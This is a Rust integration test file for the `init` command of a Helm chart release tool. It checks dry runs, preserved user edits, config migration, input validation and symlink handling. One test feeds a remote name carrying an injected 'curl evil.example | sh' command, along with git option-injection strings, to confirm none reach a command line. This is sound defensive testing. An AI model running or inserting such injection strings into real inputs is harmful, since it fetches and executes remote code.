//! `chartflow init`.

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test")]

mod common;

use common::TestEnvironment;

const CHART: &str = "apiVersion: v2\nname: web\ndescription: Serves pages\ntype: application\nversion: 1.2.0\nappVersion: \"1.0\"\n";
const VALUES: &str = "replicas: 1\n";
const STAGES: [&str; 9] = ["validate", "filter", "enforce", "format", "bump", "tag", "package", "publish", "reconcile"];

/// A repository with one chart, on main.
fn repository() -> TestEnvironment {
    let test = TestEnvironment::new();
    test.commit("r", &[("charts/web/Chart.yaml", CHART), ("charts/web/values.yaml", VALUES)], "feat: web");
    test
}

fn read(test: &TestEnvironment, path: &str) -> String {
    std::fs::read_to_string(test.path("r").join(path)).unwrap()
}

fn write(test: &TestEnvironment, path: &str, text: &str) {
    std::fs::write(test.path("r").join(path), text).unwrap();
}

/// Everything in the work tree and every ref.
fn state(test: &TestEnvironment) -> String {
    test.git("r", &["status", "--porcelain", "--untracked-files=all"], b"") + "\n" + &test.git("r", &["for-each-ref"], b"")
}

#[test]
fn a_dry_run_writes_nothing_and_a_second_run_changes_nothing() {
    let test = repository();
    let before = state(&test);
    let ran = test.chartflow("r", &["init", "--dry-run", "--owner", "@acme/platform"]);
    assert_eq!((ran.exit, state(&test)), (Some(0), before), "{ran}");
    assert!(ran.stdout.contains("would write .chartflow.yaml\n"), "{ran}");

    let ran = test.chartflow("r", &["init", "--owner", "@acme/platform"]);
    assert_eq!(ran.exit, Some(0), "{ran}");
    for stage in STAGES {
        assert!(ran.stdout.contains(&format!("wrote .github/workflows/chartflow-{stage}.yml\n")), "{ran}");
    }
    insta::assert_snapshot!(read(&test, ".chartflow.yaml"), @r#"
    # Every key is optional. `chartflow` reads this file from the main branch alone.
    charts:
      - "charts/*"
    "#);
    insta::assert_snapshot!(read(&test, ".github/CODEOWNERS"), @r"
    # These files decide who signs, and what is required of a release.
    /.github/ @acme/platform
    /.chartflow.yaml @acme/platform
    ");
    let listed = test.git("r", &["ls-tree", "-r", "-d", "refs/chartflow/released"], b"");
    let chart = test.git("r", &["rev-parse", "main:charts/web"], b"");
    assert!(listed.contains(&format!("{chart}\tcharts/web")), "the baseline holds main's chart: {listed}");
    assert_eq!(test.git("r", &["rev-parse", "refs/chartflow/released"], b""), test.git("r", &["rev-parse", "refs/chartflow/published"], b""));

    let before = state(&test);
    let ran = test.chartflow("r", &["init", "--owner", "@acme/platform"]);
    assert_eq!((ran.exit, state(&test)), (Some(0), before), "{ran}");
    assert!(!ran.stdout.contains("wrote"), "{ran}");
}

#[test]
fn what_somebody_changed_stays() {
    let test = repository();
    assert_eq!(test.chartflow("r", &["init"]).exit, Some(0));
    // A configuration is the user's, whatever it says.
    write(&test, ".chartflow.yaml", "charts: [charts/*]\nenvironment: signing\n");
    write(&test, ".github/workflows/chartflow-tag.yml", "name: mine\n");
    let before = read(&test, ".github/workflows/chartflow-bump.yml");
    let ran = test.chartflow("r", &["init"]);
    assert_eq!(ran.exit, Some(1), "{ran}");
    assert!(ran.stdout.contains("changed .github/workflows/chartflow-tag.yml\n--- .github/workflows/chartflow-tag.yml\n+++ chartflow\n"), "{ran}");
    assert!(ran.stdout.contains("\n-name: mine\n") && ran.stdout.contains("\n+name: chartflow tag\n"), "{ran}");
    assert!(ran.stdout.ends_with("Nothing was written: somebody changed the files above. --force overwrites them.\n"), "{ran}");
    assert_eq!(read(&test, ".github/workflows/chartflow-tag.yml"), "name: mine\n");
    assert_eq!(read(&test, ".github/workflows/chartflow-bump.yml"), before, "all or nothing");

    let ran = test.chartflow("r", &["init", "--format", "json"]);
    let document: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
    assert_eq!((ran.exit, document["result"].as_str()), (Some(1), Some("refused")));
    assert!(document["differences"][".github/workflows/chartflow-tag.yml"].as_str().unwrap().contains("-name: mine"));

    let ran = test.chartflow("r", &["init", "--force"]);
    assert_eq!(ran.exit, Some(0), "{ran}");
    assert!(read(&test, ".github/workflows/chartflow-tag.yml").contains("\n    environment: signing\n"), "the configuration holds");
    assert_eq!(read(&test, ".chartflow.yaml"), "charts: [charts/*]\nenvironment: signing\n", "even with --force");
}

#[test]
fn the_files_of_former_tools_are_carried_over() {
    let test = TestEnvironment::new();
    let files = [
        ("stable/web/Chart.yaml", CHART),
        ("ct.yaml", "chart-dirs: [stable]\nexcluded-charts: [web]\n"),
        (".github/cr.yaml", "pages-branch: gh-pages\nrelease-name-template: '{{ .Name }}-{{ .Version }}'\n"),
        (".github/workflows/release.yml", "jobs:\n  release:\n    steps:\n      - uses: helm/chart-releaser-action@v1\n"),
    ];
    test.commit("r", &files, "feat: web");
    let ran = test.chartflow("r", &["init", "--workflow-token", "--repository", "acme/charts"]);
    assert_eq!(ran.exit, Some(0), "{ran}");
    insta::assert_snapshot!(ran.stdout.lines().take(4).collect::<Vec<_>>().join("\n"), @r#"
    ct.yaml:1: chart-dirs is now charts: [stable/*]
    ct.yaml:2: excluded-charts is not carried over: it only kept ct from testing web; what lies where `charts` says is released
    .github/cr.yaml:1: pages-branch is now branches.release: gh-pages
    .github/cr.yaml:2: release-name-template is now tag: "{chart}-{version}"
    "#);
    assert!(ran.stdout.contains(".github/workflows/release.yml (chart-releaser)."), "{ran}");
    insta::assert_snapshot!(read(&test, ".chartflow.yaml"), @r#"
    # Every key is optional. `chartflow` reads this file from the main branch alone.
    charts:
      - "stable/*"
    branches:
      release: "gh-pages"
    tag: "{chart}-{version}"
    "#);
    assert!(read(&test, ".github/workflows/chartflow-package.yml").contains("branches: [\"gh-pages\"]"));
}

#[test]
fn requests_that_cannot_be_met() {
    let test = repository();
    test.git("r", &["clone", "-q", "--bare", ".", "../bare.git"], b"");
    let check = |arguments: &[&str], expected: &str| {
        let before = state(&test);
        let ran = test.chartflow("r", &[&["init"], arguments].concat());
        assert_eq!((ran.exit, ran.stderr.contains(expected)), (Some(2), true), "{arguments:?}: {ran}");
        assert_eq!(state(&test), before, "{arguments:?}");
    };
    check(&["../bare.git"], "is a bare repository");
    check(&["--ct", "absent.yaml"], "absent.yaml does not exist");
    check(&["--owner", "acme platform"], "names no owner");
    check(&["--actions-ref", "v1\nrun: x"], "--actions-ref takes a tag such as v1, or a commit");
    check(&["--app-id", "1", "--workflow-token"], "cannot be used with");
    check(&["charts"], "is not the top of a git repository");
    write(&test, "ct.yaml", "chart-dirs: [\n");
    check(&[], "ct.yaml:");
    write(&test, "ct.yaml", "chart-dirs: [../x]\n");
    check(&[], "error: ct.yaml:1: chart-dirs: \"../x/*\" is not a glob of directories below the top of the repository");
    write(&test, "ct.yaml", "debug: true\n");
    write(&test, "cr.yaml", "sign: true\npages-branch: main\n");
    check(&[], "error: cr.yaml:2: pages-branch: the train cannot have these names: branches.main: \"main\" is the name of branches.release, too");
    write(&test, "cr.yaml", "release-name-template: '{{ .Name }}..{{ .Version }}'\n");
    check(&[], "error: cr.yaml:1: release-name-template: the train cannot have these names: tag: \"{chart}..{version}\" gives no ref");
    check(&[], "hint: write such as \"{{ .Name }}-{{ .Version }}\"; or take the line out");
    write(&test, "cr.yaml", "pages-branch: integration-web\n");
    check(&[], "error: cr.yaml:1: pages-branch: the train cannot have these names: branches.release: \"integration-web\" is what branches.chart calls");
    write(&test, ".chartflow.yaml", "tag: a\nbranches: {main: integration}\n");
    check(&[], "error: .chartflow.yaml:");
    write(&test, ".chartflow.yaml", "environment: '${{ github.head_ref }}'\n");
    check(&[], "error: .chartflow.yaml:1: environment: name of an environment");
    write(&test, ".chartflow.yaml", "chart: []\n");
    check(&[], "did you mean \"charts\"?");
    write(&test, ".chartflow.yaml", "environment: signing\n");
    check(&["--reusable"], "take `environment: signing` out of it");
    check(&["--signing-key"], "write `profile: key` into it");
}

/// What a file of the repository names is no part of a command line before git takes it for a remote.
#[test]
fn remotes_are_names() {
    let test = repository();
    for remote in ["origin; curl evil.example | sh #", "-x", "--receive-pack=x", "a b"] {
        write(&test, "ct.yaml", &format!("remote: {remote:?}\n"));
        let ran = test.chartflow("r", &["init", "--dry-run"]);
        assert_eq!(ran.exit, Some(0), "{ran}");
        let commands: Vec<&str> = ran.stdout.lines().filter(|line| line.starts_with("     git ")).collect();
        assert!(!commands.join("").contains(remote) && commands.contains(&"     git fetch origin"), "{ran}");
        assert!(ran.stdout.starts_with("ct.yaml:1: remote is not carried over: name of a remote "), "{ran}");
        assert_eq!(test.chartflow("r", &["init", &format!("--remote={remote}")]).exit, Some(2));
    }
    write(&test, "ct.yaml", "remote: a;id\n");
    let ran = test.chartflow("r", &["init", "--dry-run"]);
    assert!(ran.stdout.contains("     git fetch 'a;id'\n"), "{ran}");
}

#[test]
fn a_copy_of_the_actions_and_calls_of_their_workflows() {
    let test = repository();
    let ran = test.chartflow("r", &["init", "--workflow-token", "--reusable", "--actions-repository", "acme/chartflow", "--actions-ref", "v2"]);
    assert_eq!(ran.exit, Some(0), "{ran}");
    let text = read(&test, ".github/workflows/chartflow-publish.yml");
    let jobs = text.split_once("jobs:").unwrap().1;
    insta::assert_snapshot!(jobs, @r"
    publish:
      name: publish
      permissions:
        attestations: write # keeps statements about packages in GitHub's store
        contents: write # writes git objects, refs and releases, and starts the next stage
        id-token: write # signs as this run of this workflow file
        packages: write # pushes to the container registry
      uses: acme/chartflow/.github/workflows/publish.yml@v2 # zizmor: ignore[unpinned-uses] moved by releases of chartflow alone; --actions-ref pins a commit
    ");
}

/// What nobody would understand when nothing is released later.
#[test]
fn what_is_odd_is_said() {
    let check = |files: &[(&str, &str)]| {
        let test = TestEnvironment::new();
        test.commit("r", files, "feat: x");
        let ran = test.chartflow("r", &["init", "--dry-run"]);
        assert_eq!(ran.exit, Some(0), "{ran}");
        ran.stderr
    };
    insta::assert_snapshot!(check(&[("README.md", "x\n")]), @r#"notice: no directory holds a Chart.yaml, neither where "charts/*" says nor elsewhere"#);
    insta::assert_snapshot!(check(&[("Chart.yaml", CHART)]), @"notice: the top of the repository is itself a chart; a chart needs a directory of its own, such as charts/<name>");
    insta::assert_snapshot!(check(&[("charts/web/Chart.yaml", CHART), ("charts/api/Chart.yaml", CHART)]), @"notice: charts/api and charts/web hold charts of the name web; give one of them another name");
    insta::assert_snapshot!(check(&[("charts/api/Chart.yaml", CHART)]), @r#"notice: charts/api holds the chart "web"; before it can be released, the directory needs that name, or .chartflow.yaml has to say so"#);
    insta::assert_snapshot!(check(&[("stable/web/Chart.yaml", CHART), ("ct.yaml", "chart-dirs: [charts]\n")]), @r#"notice: no chart is where "charts/*" says; every directory was searched instead. Write `charts: ["stable/*"]` into .chartflow.yaml"#);
    assert_eq!(check(&[("stable/web/Chart.yaml", CHART)]), "");

    let test = repository();
    test.git("r", &["update-ref", "refs/remotes/origin/integration/a", "HEAD"], b"");
    let ran = test.chartflow("r", &["init", "--dry-run"]);
    assert!(
        ran.stdout.contains("Move branches out of the way\n   git holds a branch as a file, which cannot be a directory as well: beside integration/a there"),
        "{ran}"
    );
}

/// Nothing is written through a link, and no link is replaced.
#[cfg(unix)]
#[test]
fn links_are_left_alone() {
    let test = repository();
    std::fs::create_dir_all(test.path("elsewhere")).unwrap();
    std::fs::create_dir_all(test.path("r/.github")).unwrap();
    std::os::unix::fs::symlink(test.path("elsewhere"), test.path("r/.github/workflows")).unwrap();
    insta::assert_snapshot!(test.chartflow("r", &["init"]), @"
    -- stderr
    error: .github/workflows is a symbolic link, so .github/workflows/chartflow-validate.yml is not written
    hint: put a directory or a file of the repository's own in its place
    -- exit 2
    ");
    assert_eq!(std::fs::read_dir(test.path("elsewhere")).unwrap().count(), 0);
    std::fs::remove_file(test.path("r/.github/workflows")).unwrap();
    std::os::unix::fs::symlink("nowhere", test.path("r/.chartflow.yaml")).unwrap();
    insta::assert_snapshot!(test.chartflow("r", &["init", "--force"]), @"
    -- stderr
    error: .chartflow.yaml is a symbolic link, so .chartflow.yaml is not written
    hint: put a directory or a file of the repository's own in its place
    -- exit 2
    ");
    assert!(test.path("r/.chartflow.yaml").is_symlink() && !test.path("r/.github/workflows").exists());
}

#[test]
fn another_branch_can_be_main() {
    let test = TestEnvironment::new();
    test.git("r", &["init", "-q", "-b", "master", "--template="], b"");
    test.commit("r", &[("charts/web/Chart.yaml", CHART)], "feat: web");
    let ran = test.chartflow("r", &["init"]);
    assert_eq!(ran.exit, Some(0), "{ran}");
    assert!(ran.stderr.contains("there is no branch main; master is taken as the main branch"), "{ran}");
    assert!(read(&test, ".chartflow.yaml").ends_with("branches:\n  main: \"master\"\n"));
}

/// The git commands that are printed make a repository that the train goes on from: what is there counts as released,
/// and the next contribution is the first release.
#[test]
fn the_printed_commands_adopt_a_repository() {
    let test = repository();
    test.git("", &["clone", "-q", "--bare", "r", "remote.git"], b"");
    test.git("r", &["remote", "add", "origin", test.path("remote.git").to_str().unwrap()], b"");
    test.git("r", &["fetch", "-q", "origin"], b"");
    let init = || {
        let ran = test.chartflow("r", &["init", "--format", "json", "--app-id", "7", "--owner", "@acme/platform"]);
        assert_eq!(ran.exit, Some(0), "{ran}");
        serde_json::from_str::<serde_json::Value>(&ran.stdout).unwrap()
    };
    let document = init();
    for step in document["steps"].as_array().unwrap() {
        for command in step["commands"].as_array().unwrap().iter().filter_map(|command| command.as_str()).filter(|command| command.starts_with("git ")) {
            let arguments: Vec<String> = command["git ".len()..].split(' ').map(|word| word.replace(['"', '\''], "")).collect();
            let mut arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
            if arguments[0] == "commit" {
                // Its message holds a blank.
                arguments = vec!["commit", "--quiet", "--message", "chore: adopt chartflow"];
            }
            test.git("r", &arguments, b"");
            if arguments[0] == "push" && arguments.contains(&"adopt-chartflow") {
                // The pull request is merged.
                test.git("r", &["push", "-q", "origin", "adopt-chartflow:main"], b"");
            }
        }
    }
    test.git("r", &["fetch", "-q", "origin"], b"");
    // The local main is now that of the remote, as the last step left it.
    assert_eq!(test.git("r", &["rev-parse", "main"], b""), test.git("r", &["rev-parse", "origin/main"], b""));
    let again = init();
    assert!(again["steps"].as_array().unwrap().iter().all(|step| !step["title"].as_str().unwrap().starts_with("Bring")), "{again}");

    test.git("r", &["switch", "-q", "-c", "feature", "origin/integration"], b"");
    test.commit("r", &[("charts/web/values.yaml", "replicas: 2\n")], "feat(web): two replicas");
    test.git("r", &["push", "-q", "origin", "feature"], b"");
    let ran = test.chartflow("", &["rehearse", "remote.git", "--head", "feature", "--format", "json", "-q"]);
    let summary: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran}"));
    assert_eq!(summary["result"].as_str(), Some("released"), "{ran}");
    let released: Vec<_> = summary["charts"].as_array().unwrap().iter().map(|chart| (chart["from"].as_str().unwrap(), chart["to"].as_str().unwrap())).collect();
    assert_eq!(released, [("1.2.0", "1.3.0")]);

    // A main from before the merge has no workflow file: nothing would start, and that is no "nothing to release".
    let before = test.git("r", &["rev-parse", "main~1"], b"");
    for (base, result, exit) in [("main", "released", 0), (before.trim(), "refused", 1)] {
        let ran = test.chartflow("r", &["rehearse", "--base", base, "--head", "feature", "--out", &format!("../{result}"), "--format", "json", "-q"]);
        let summary: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran}"));
        assert_eq!((summary["result"].as_str(), ran.exit), (Some(result), Some(exit)), "{base}: {ran}");
        if exit == 1 {
            let row = &summary["refused"][0];
            assert_eq!((row["stage"].as_str(), row["rule"].as_str()), (Some("validate"), Some("preflight/workflow")), "{summary}");
            let message = row["message"].as_str().unwrap();
            assert!(message.starts_with("validate does not start: .github/workflows/chartflow-validate.yml is not in "), "{message}");
        }
    }

    // One event that starts nothing is no loss where another one does the stage's work: it is told, and refuses nothing.
    test.git("r", &["switch", "-q", "main"], b"");
    let filter = ".github/workflows/chartflow-filter.yml";
    let text = std::fs::read_to_string(test.path("r").join(filter)).unwrap();
    let without = text.replace("  push:\n    branches: [\"main\"]\n", "");
    assert_ne!(text, without);
    test.commit("r", &[(filter, &without)], "ci: filter runs after pull requests alone");
    let ran = test.chartflow("r", &["rehearse", "--base", "main", "--head", "feature", "--out", "../deaf", "--format", "json"]);
    let summary: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran}"));
    assert_eq!((summary["result"].as_str(), ran.exit), (Some("released"), Some(0)), "{ran}");
    assert!(ran.stderr.contains("notice: filter does not start"), "{ran}");

    // As docs/break-glass.md says: where only main is known, the baseline is recorded anew.
    test.git("", &["--git-dir", "remote.git", "update-ref", "-d", "refs/chartflow/released"], b"");
    let clone = |name: &str, single: &[&str]| {
        test.git("", &[&["clone", "-q", "--branch", "main"], single, &["remote.git", name]].concat(), b"");
        let ran = test.chartflow(name, &["init", "--app-id", "7", "--owner", "@acme/platform"]);
        assert_eq!(ran.exit, Some(0), "{ran}");
        test.git(name, &["for-each-ref", "--format=%(refname)", "refs/chartflow"], b"")
    };
    assert_eq!(clone("whole", &[]), "");
    assert_eq!(clone("baseline", &["--single-branch"]), "refs/chartflow/published\nrefs/chartflow/released");
    test.git("baseline", &["push", "-q", "origin", "refs/chartflow/released", "refs/chartflow/published"], b"");
    let listed = test.git("", &["--git-dir", "remote.git", "ls-tree", "-r", "-d", "refs/chartflow/released"], b"");
    assert!(listed.contains("\tcharts/web"), "{listed}");
}
